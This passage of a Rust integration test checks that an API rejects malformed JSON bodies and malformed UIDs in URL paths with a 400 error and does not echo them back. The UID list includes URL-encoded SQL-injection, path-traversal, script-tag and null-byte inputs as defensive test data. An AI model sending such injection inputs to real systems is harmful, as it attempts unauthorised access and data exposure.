    )
    .await;
    check(
        &r,
        400,
        "invalid_request",
        "[[[[[[[[",
        "brackets inside a string",
    );
    assert!(!r.text().contains("nested deeper"), "{}", r.text());

    // Not JSON, or JSON with trailing data.
    for (bad, what) in [
        (&b"{\"name\": \"x\""[..], "truncated"),
        (&b"{\"name\": \"x\"} {\"name\": \"y\"}"[..], "trailing"),
        (&b"\xff\xfe{}"[..], "not UTF-8"),
        (&b"[]"[..], "wrong top-level type"),
    ] {
        let r = send(
            c,
            Method::POST,
            "/v1/teams",
            a,
            Some(("application/json", bad.to_vec())),
        )
        .await;
        check(&r, 400, "invalid_request", "\"x\"", what);
    }

    // Malformed UIDs in the path: 400, never echoed.
    let p = &x.project;
    for bad in [
        "ABCDEF012345",
        "abc",
        "0123456789abc",
        "zzzzzzzzzzzz",
        "%27%20OR%201%3D1",
        "%2e%2e%2f%2e%2e%2fetc",
        "%3Cscript%3E",
        "00000000000%00",
    ] {
        for path in [
            format!("/v1/users/{bad}"),
            format!("/v1/teams/{bad}/members"),
            format!("/v1/roles/{bad}"),
            format!("/v1/projects/{bad}"),
            format!("/v1/projects/{bad}/clusters"),
            format!("/v1/projects/{p}/clusters/{bad}"),
            format!("/v1/teams/{}/members/{bad}", x.team),
        ] {
            let method = if path.ends_with("/members") || path.ends_with("/clusters") {
                Method::GET
            } else if path.contains("/members/") {
                Method::DELETE
            } else {
                Method::GET
            };
            let r = call(c, method, &path, a, None).await;
            let decoded = bad
                .replace("%27", "'")
                .replace("%20", " ")
                .replace("%3D", "=");
            check(&r, 400, "invalid_request", &decoded, &path);
            assert!(r.text().contains("UID"), "{path}: {}", r.text());
        }
    }
    intact(&x).await;
    x.s.stop().await.unwrap();
}
